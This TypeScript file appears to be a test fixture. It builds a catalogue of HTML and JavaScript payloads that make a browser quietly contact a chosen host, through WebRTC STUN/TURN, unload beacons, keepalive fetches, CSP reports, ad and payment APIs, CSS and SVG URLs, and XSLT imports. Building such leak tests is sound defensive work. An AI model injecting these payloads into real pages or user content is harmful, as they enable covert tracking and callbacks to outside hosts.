const script = (code: string) => `<b>text</b><script>${code}</script>`;
const tried = (code: string) => script(`try { ${code} } catch {}`);

/**
 * Content that makes the browser contact a host without requesting a file: look up a name, open a connection, call
 * another browser, report to an advertiser, query a bank, or send data once the page is closed.
 */
export function leaks(host: string): Record<string, string> {
  const [http, https] = [`http://${host}`, `https://${host}`];
  const stun = (name: string) =>
    `const c = new ${name}({ iceServers: [{ urls: "stun:${host}" }, { urls: "turn:${host}?transport=tcp", username: "owned", credential: "x" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o))`;
  return {
    "preconnect with a right": `<b>text</b><link rel="preconnect" href="${http}" crossorigin="use-credentials">`,
    "preconnect in a shadow": tried(
      `const s = document.body.appendChild(document.createElement("p")).attachShadow({ mode: "closed" }); s.innerHTML = '<link rel="preconnect" href="${http}"><link rel="dns-prefetch" href="${http}">'`,
    ),
    "prefetch control by a script": tried(
      `const m = document.createElement("meta"); m.httpEquiv = "x-dns-prefetch-control"; m.content = "on"; document.head.append(m); const a = document.createElement("a"); a.href = "${http}/"; a.textContent = "a"; document.body.append(a)`,
    ),
    "preload of each kind": tried(
      `for (const as of ["script", "style", "font", "fetch", "image", "track", "document", "audio"]) { const l = document.createElement("link"); l.rel = "preload"; l.as = as; l.href = "${http}/" + as; document.head.append(l) }`,
    ),
    "links of other kinds": tried(
      `for (const rel of ["next", "import", "manifest", "compression-dictionary", "expect", "pingback", "search", "alternate stylesheet", "mask-icon", "apple-touch-icon"]) { const l = document.createElement("link"); l.rel = rel; l.href = "${http}/" + rel; document.head.append(l) }`,
    ),
    "speculation by documents": tried(
      `const s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prerender: [{ where: { href_matches: "/*" }, eagerness: "immediate" }], prefetch: [{ urls: ["${http}/"], requires: ["anonymous-client-ip-when-cross-origin"], eagerness: "immediate" }] }); document.body.append(s)`,
    ),
    "call with a way through": tried(stun("RTCPeerConnection")),
    "call by an older name": tried(stun("webkitRTCPeerConnection")),
    "call of an empty frame": tried(
      `const f = document.body.appendChild(document.createElement("iframe")); ${stun("f.contentWindow.RTCPeerConnection")}`,
    ),
    "call of a worker": tried(
      `new Worker("data:text/javascript," + encodeURIComponent(${JSON.stringify(stun("RTCPeerConnection"))})).onerror = (e) => e.preventDefault()`,
    ),
    "beacon at the end": script(
      `for (const type of ["pagehide", "unload", "beforeunload", "visibilitychange"]) window.addEventListener(type, () => navigator.sendBeacon("${http}/" + type, "x"))`,
    ),
    "request that outlives the page": tried(
      `fetch("${http}/", { keepalive: true, method: "POST", body: "x", mode: "no-cors" }).catch(() => {}); fetchLater("${https}/later", { activateAfter: 0 })`,
    ),
    "request that waits": tried(`const r = new XMLHttpRequest(); r.open("GET", "${http}/", false); r.send()`),
    "report of a policy": `<b>text</b><meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${http}/report"><img src="x.png">`,
    "words for advertisers": tried(
      `document.browsingTopics?.().catch(() => {}); navigator.joinAdInterestGroup?.({ owner: "${https}", name: "owned", biddingLogicURL: "${https}/bid.js" }, 100).catch(() => {}); window.sharedStorage?.worklet.addModule("${https}/w.js").catch(() => {}); navigator.runAdAuction?.({ seller: "${https}", decisionLogicURL: "${https}/a.js", interestGroupBuyers: ["${https}"] }).catch(() => {})`,
    ),
    "source of an advert": `<b>text</b><img attributionsrc="${https}/source" src="data:,"><a attributionsrc="${https}/a" href="#x">a</a>`,
    "manifest of a bank": tried(
      `new PaymentRequest([{ supportedMethods: "${https}/pay" }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment().catch(() => {})`,
    ),
    "sign-in elsewhere": tried(
      `navigator.credentials.get({ identity: { providers: [{ configURL: "${https}/fedcm.json", clientId: "x" }] } }).catch(() => {}); document.requestStorageAccess().catch(() => {})`,
    ),
    "screen elsewhere": tried(
      `const p = new PresentationRequest(["${https}/show"]); p.getAvailability().catch(() => {}); p.start().catch(() => {})`,
    ),
    "sockets of other kinds": tried(
      `const [h, p] = "${host}".split(":"); for (const make of [() => new WebSocketStream("ws://${host}/"), () => new TCPSocket(h, Number(p)), () => new UDPSocket({ remoteAddress: h, remotePort: Number(p) })]) try { make() } catch {}`,
    ),
    "worklets and workers": tried(
      `CSS.paintWorklet?.addModule("${http}/paint.js").catch(() => {}); new AudioContext().audioWorklet.addModule("${http}/audio.js").catch(() => {}); new SharedWorker("${http}/shared.js")`,
    ),
    "style sheet of XML": tried(
      `const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${http}/a.xsl"/><xsl:template match="/"><xsl:copy-of select="document(&quot;${http}/d.xml&quot;)"/></xsl:template></xsl:stylesheet>', "text/xml")); x.transformToDocument(document)`,
    ),
    "pictures of styles": `<style>b { cursor: url("${http}/cursor"), auto; list-style-image: url("${http}/list"); border-image: url("${http}/border") 1; mask: url("${http}/mask"); filter: url("${http}/filter#f"); clip-path: url("${http}/clip#c"); shape-outside: url("${http}/shape"); background: image-set("${http}/set" 1x); } @property --x { syntax: "<url>"; inherits: true; initial-value: url("${http}/x") } @font-face { font-family: f; src: local("none"), url("${http}/f") } b { font-family: f }</style><b>text</b>`,
    "drawing that changes": `<svg width=9 height=9><image id=i href="data:,"><animate attributeName="href" values="${http}/a;${http}/b" dur="0.1s" repeatCount="indefinite"/></image><set href="#i" attributeName="href" to="${http}/set"/><script href="${http}/script.js"></script></svg><b>text</b>`,
    "programs of other kinds": tried(
      `for (const scheme of ["mailto:a@${host}", "tel:1", "intent://${host}/#Intent;end", "ms-word:ofe|u|${http}/x", "web+x:${host}", "ftp://${host}/", "view-source:${http}/"]) try { const a = document.createElement("a"); a.href = scheme; document.body.append(a); a.dispatchEvent(new MouseEvent("click")); } catch {} navigator.registerProtocolHandler?.("web+owned", "${https}/%s")`,
    ),
  };
}
